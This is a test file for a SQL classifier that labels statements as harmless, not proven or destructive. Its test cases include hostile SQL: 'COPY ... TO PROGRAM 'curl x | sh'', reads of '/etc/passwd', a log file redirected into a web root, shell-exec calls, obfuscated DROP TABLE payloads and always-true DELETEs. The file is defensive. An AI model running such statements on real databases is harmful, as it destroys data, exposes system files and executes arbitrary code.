/**
 * classifySql's proof: what is allowed is proven harmless; the rest is destructive (with its
 * reason) or not proven (with why). Also the splitter cases that used to lose sync.
 */
import { describe, expect, it } from 'vitest';
import { classifySql, type SqlDialect } from '../../src/policy/sql.js';

type Case = [sql: string, dialect?: SqlDialect];

const PROVEN: Case[] = [
  ['SELECT id, name FROM users WHERE org = $1 ORDER BY name LIMIT 10', 'postgres'],
  ['INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2', 'postgres'],
  ['UPDATE t SET a = 1 WHERE id = 2'],
  ['DELETE FROM t WHERE id = ANY(ARRAY[1, 2])', 'postgres'],
  ['BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;'],
  ['CREATE TABLE t (id int, note text)'],
  ['CREATE INDEX i ON t (a)'],
  ['CREATE OR REPLACE VIEW v AS SELECT 1'],
  ['ALTER TABLE t ADD COLUMN x int'],
  ['SET search_path TO app'],
  ['SET @id = 5', 'mysql'],
  ['SHOW TABLES'],
  ['VACUUM'],
  ['EXPLAIN ANALYZE SELECT * FROM t'],
  ['COPY t TO STDOUT', 'postgres'],
  ['COPY (SELECT * FROM t) TO STDOUT', 'postgres'],
  ["PREPARE s FROM 'SELECT * FROM t WHERE id = ?'; EXECUTE s USING @id", 'mysql'],
  ['PREPARE s AS SELECT $1; EXECUTE s(1)', 'postgres'],
  ['CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql AS $$ SELECT x + 1 $$', 'postgres'],
  ['CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql RETURN x + 1', 'postgres'],
  ['CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO t VALUES (1); END', 'postgres'],
  ['CREATE TRIGGER tr AFTER DELETE ON o BEGIN DELETE FROM items WHERE order_id = OLD.id; END', 'sqlite'],
  ['CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING', 'postgres'],
  ["SELECT dblink('dbname=x', 'SELECT 1')", 'postgres'],
  ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d'],
  ['PRAGMA foreign_keys = ON', 'sqlite'],
  ['BEGIN; DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c; COMMIT', 'postgres'],
];

/** [sql, dialect, a phrase of the reason] */
const UNPROVEN: [string, SqlDialect, RegExp][] = [
  ['DO $$ BEGIN PERFORM 1; END $$', 'postgres', /procedural code/],
  ["DO $$ DECLARE q text := 'x'; BEGIN EXECUTE q; END $$", 'postgres', /procedural code/],
  ['EXECUTE s', 'postgres', /prepared outside this SQL/],
  ['EXECUTE IMMEDIATE v_sql', 'generic', /built at run time/],
  ['PREPARE s FROM @q', 'mysql', /built at run time/],
  ['SET @q = (SELECT body FROM scripts); PREPARE s FROM @q', 'mysql', /built at run time/],
  ['CALL p()', 'generic', /stored procedure/],
  ['GRANT ALL ON t TO bob', 'generic', /who may read or change/],
  ['REVOKE ALL ON t FROM bob', 'generic', /who may read or change/],
  ["ATTACH DATABASE '/tmp/x.db' AS x", 'sqlite', /ATTACH/],
  ["VACUUM INTO '/tmp/x.db'", 'sqlite', /VACUUM INTO/],
  ["COPY t TO '/tmp/x.csv'", 'postgres', /writes a file/],
  ["COPY t FROM '/etc/passwd'", 'postgres', /reads a file/],
  ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 'mysql', /writes a file/],
  ["SELECT lo_import('/etc/passwd')", 'postgres', /reaches outside the database/],
  ['SELECT pg_terminate_backend(123)', 'postgres', /reaches outside the database/],
  ["SELECT dblink_exec('dbname=x', some_text)", 'postgres', /not visible here/],
  ["SET GLOBAL general_log_file = '/var/www/x.php'", 'mysql', /every session/],
  ["ALTER SYSTEM SET archive_command = 'sh'", 'postgres', /ALTER SYSTEM/],
  ['ALTER ROLE bob SUPERUSER', 'postgres', /account/],
  ["ALTER DATABASE app SET session_preload_libraries = 'evil'", 'postgres', /ALTER DATABASE/],
  ['CREATE EXTENSION plpython3u', 'postgres', /CREATE EXTENSION/],
  ['CREATE ROLE eve SUPERUSER', 'postgres', /account/],
  ["CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (program 'sh')", 'postgres', /outside the database/],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', 'postgres', /CREATE FUNCTION `f`: it runs a destructive statement/],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN NULL; END $$', 'postgres', /plpgsql code/],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'postgres', /plpgsql body runs a destructive statement/],
  ["CREATE FUNCTION f RETURNS STRING SONAME 'x.so'", 'mysql', /native library/],
  ['CREATE PROCEDURE p() BEGIN DELETE FROM t; END', 'mysql', /CREATE PROCEDURE `p`/],
  ['CREATE PROCEDURE p() BEGIN IF x THEN SELECT 1; END IF; END', 'mysql', /not understood/],
  ['CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()', 'postgres', /runs `f`, whose body is not visible/],
  ['LOAD DATA INFILE \'/etc/passwd\' INTO TABLE t', 'mysql', /LOAD/],
  ['KILL 42', 'mysql', /KILL/],
  ['DECLARE x int; BEGIN SELECT 1; END', 'generic', /procedural code/],
];

const DESTRUCTIVE: [string, SqlDialect, RegExp][] = [
  ["COPY t TO PROGRAM 'curl x | sh'", 'postgres', /TO PROGRAM runs a shell command/],
  ["COPY t FROM PROGRAM 'id'", 'postgres', /FROM PROGRAM runs a shell command/],
  ["SELECT load_extension('/tmp/x.so')", 'sqlite', /native library/],
  ["SELECT sys_exec('id')", 'mysql', /shell command/],
  ["DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$", 'postgres', /DROP TABLE/],
  ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", 'postgres', /DROP TABLE/],
  ["DO $$ BEGIN EXECUTE chr(68) || 'ROP TABLE users'; END $$", 'postgres', /DROP TABLE/],
  ["DO $$ BEGIN EXECUTE concat('TRUNCATE ', 'users'); END $$", 'postgres', /TRUNCATE/],
  ["DO $$ BEGIN EXECUTE 'TRUNCATE ' || quote_ident(t); END $$", 'postgres', /TRUNCATE/],
  ["SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s", 'mysql', /DROP TABLE/],
  ["SET @q := CONCAT('DELETE ', 'FROM users'); PREPARE s FROM @q", 'mysql', /every row/],
  ["PREPARE s FROM 'DELETE FROM users'", 'mysql', /every row/],
  ["EXECUTE IMMEDIATE 'DROP TABLE users'", 'generic', /DROP TABLE/],
  ["SELECT dblink_exec('dbname=x', 'DROP TABLE users')", 'postgres', /dblink_exec/],
  ['DELETE FROM users WHERE 1 = ANY(ARRAY[1])', 'postgres', /always-true/],
  ["DELETE FROM users WHERE 2 = SOME('{1,2,3}')", 'postgres', /always-true/],
  ['DELETE FROM users WHERE 3 <> ALL(ARRAY[1, 2])', 'postgres', /always-true/],
  ['DELETE FROM users WHERE NOT EXISTS (SELECT 1 WHERE false)', 'postgres', /always-true/],
  ['DELETE FROM users WHERE EXISTS (SELECT 1 WHERE 1 = 1)', 'generic', /always-true/],
  ['DELETE FROM users WHERE EXISTS (SELECT * FROM users u)', 'generic', /always-true/],
  ['DELETE FROM users WHERE random() < 2', 'postgres', /always-true/],
  ['DELETE FROM users WHERE random() >= 0', 'postgres', /always-true/],
  ['DELETE FROM users WHERE id IN (SELECT id FROM users)', 'generic', /always-true/],
  ['DELETE FROM public.users WHERE users.id IN (SELECT DISTINCT id FROM public.users AS x)', 'postgres', /always-true/],
  ['UPDATE users SET a = 1 WHERE id IN (SELECT id FROM users)', 'postgres', /changes every row/],
  ['CREATE PROCEDURE p() LANGUAGE SQL BEGIN ATOMIC SELECT 1 AS begin; END; DROP TABLE users; END', 'postgres', /DROP TABLE/],
  ['CREATE PROCEDURE p() LANGUAGE SQL BEGIN ATOMIC SELECT 1 AS end; END; DROP TABLE users', 'postgres', /DROP TABLE/],
  ['CREATE PROCEDURE p() SELECT 1 begin FROM dual; DROP TABLE users; END', 'mysql', /DROP TABLE/],
  ['CREATE PROCEDURE p() SELECT 1 AS begin; DROP TABLE users; END', 'mysql', /DROP TABLE/],
];

/** Restricting conditions the tautology rules must leave alone. */
const RESTRICTING: Case[] = [
  ['DELETE FROM users WHERE id = ANY(ARRAY[1, 2])', 'postgres'],
  ['DELETE FROM users WHERE 5 = ANY(ARRAY[1, 2])', 'postgres'],
  ['DELETE FROM users WHERE EXISTS (SELECT 1 WHERE false)', 'postgres'],
  ['DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = users.id)', 'postgres'],
  ['DELETE FROM users WHERE EXISTS (SELECT 1 FROM other)', 'postgres'],
  ['DELETE FROM users WHERE random() < 0.5', 'postgres'],
  ['DELETE FROM users WHERE random() < 2', 'sqlite'], // SQLite's random() is any 64-bit integer
  ['DELETE FROM users WHERE id IN (SELECT id FROM users WHERE banned)', 'postgres'],
  ['DELETE FROM users WHERE id IN (SELECT user_id FROM users)', 'postgres'],
  ['DELETE FROM users WHERE id IN (SELECT id FROM banned)', 'postgres'],
  ['DELETE FROM users WHERE id NOT IN (SELECT id FROM users)', 'postgres'],
];

describe('classifySql proof', () => {
  it.each(PROVEN)('%s (%s) is proven harmless', (sql, dialect) => {
    const v = classifySql(sql, { dialect: dialect ?? 'generic' });
    expect(v.parsed, v.error).toBe(true);
    expect(v.destructive, v.reason).toBe(false);
    expect(v.unproven).toBeUndefined();
  });

  it.each(UNPROVEN)('%s (%s) is not proven', (sql, dialect, why) => {
    const v = classifySql(sql, { dialect });
    expect(v.parsed, v.error).toBe(true);
    expect(v.destructive, v.reason).toBe(false);
    expect(v.unproven).toMatch(why);
    expect(v.statements.find((s) => s.unproven)!.unproven).toBe(v.unproven);
  });

  it.each(DESTRUCTIVE)('%s (%s) is destructive', (sql, dialect, why) => {
    const v = classifySql(sql, { dialect });
    expect(v.destructive, v.unproven ?? v.error).toBe(true);
    expect(v.reason).toMatch(why);
  });

  it.each(RESTRICTING)('%s (%s) restricts', (sql, dialect) => {
    const v = classifySql(sql, { dialect: dialect ?? 'generic' });
    expect(v.parsed, v.error).toBe(true);
    expect(v.destructive, v.reason).toBe(false);
  });

  it('the generic dialect keeps the worst reading, not proven included', () => {
    // PostgreSQL reads `'a\'` as a whole string, so GRANT is a statement of its own there
    const v = classifySql("SELECT 'a\\'; GRANT ALL ON t TO bob; -- '");
    expect(v.unproven).toMatch(/GRANT/);
    // a reading that only misreads PostgreSQL's dollar quotes does not make a proven function unproven
    expect(classifySql('CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$').unproven).toBeUndefined();
  });

  it('remembers prepared names and variables only within one text', () => {
    expect(classifySql('EXECUTE s', { dialect: 'mysql' }).unproven).toMatch(/prepared outside/);
    expect(classifySql("PREPARE s FROM 'SELECT 1'; EXECUTE s", { dialect: 'mysql' }).unproven).toBeUndefined();
    expect(classifySql('PREPARE s FROM @q', { dialect: 'mysql' }).unproven).toMatch(/built at run time/);
    // a variable set to something unknown forgets its earlier value
    const v = classifySql("SET @q = 'SELECT 1'; SET @q = (SELECT body FROM t); PREPARE s FROM @q", { dialect: 'mysql' });
    expect(v.unproven).toMatch(/built at run time/);
  });

  it('statement spans stay aligned after a routine body', () => {
    const sql = 'CREATE PROCEDURE p() LANGUAGE SQL BEGIN ATOMIC SELECT 1 AS begin; END; DROP TABLE users; END';
    const v = classifySql(sql, { dialect: 'postgres' });
    expect(v.statements.map((s) => sql.slice(s.start, s.end))).toEqual([
      'CREATE PROCEDURE p() LANGUAGE SQL BEGIN ATOMIC SELECT 1 AS begin; END',
      'DROP TABLE users',
      'END',
    ]);
  });

  it('a CREATE RULE action list keeps its ; inside the parentheses, and what follows is seen', () => {
    const rule = 'CREATE RULE r AS ON INSERT TO t DO INSTEAD (SELECT 1; SELECT 2)';
    expect(classifySql(rule, { dialect: 'postgres' }).statements).toHaveLength(1);
    expect(classifySql(`${rule}; DROP TABLE users`, { dialect: 'postgres' }).reason).toMatch(/DROP TABLE/);
    expect(classifySql('CREATE RULE r AS ON INSERT TO t DO INSTEAD (SELECT 1; DELETE FROM users)', { dialect: 'postgres' }).reason).toMatch(/CREATE RULE/);
    // elsewhere a ; inside parentheses still ends a statement (servers reject the text; nothing hides)
    expect(classifySql('SELECT (1; DROP TABLE users)').destructive).toBe(true);
  });

  it('PREPARE TRANSACTION is transaction control; REASSIGN OWNED is known but not proven', () => {
    const v = classifySql("BEGIN; UPDATE t SET a = 1 WHERE id = 1; PREPARE TRANSACTION 'tx1'", { dialect: 'postgres' });
    expect(v.parsed && !v.destructive && !v.unproven).toBe(true);
    expect(classifySql('REASSIGN OWNED BY bob TO eve', { dialect: 'postgres' }).unproven).toMatch(/owns/);
  });

  it('nested blocks in a MySQL body keep their statements inside', () => {
    const sql = 'CREATE PROCEDURE p() BEGIN IF x THEN BEGIN SELECT 1; END; END IF; lbl: BEGIN SELECT 2; END; END; SELECT 3';
    const v = classifySql(sql, { dialect: 'mysql' });
    expect(v.statements.map((s) => s.kind)).toEqual(['create', 'select']);
  });
});
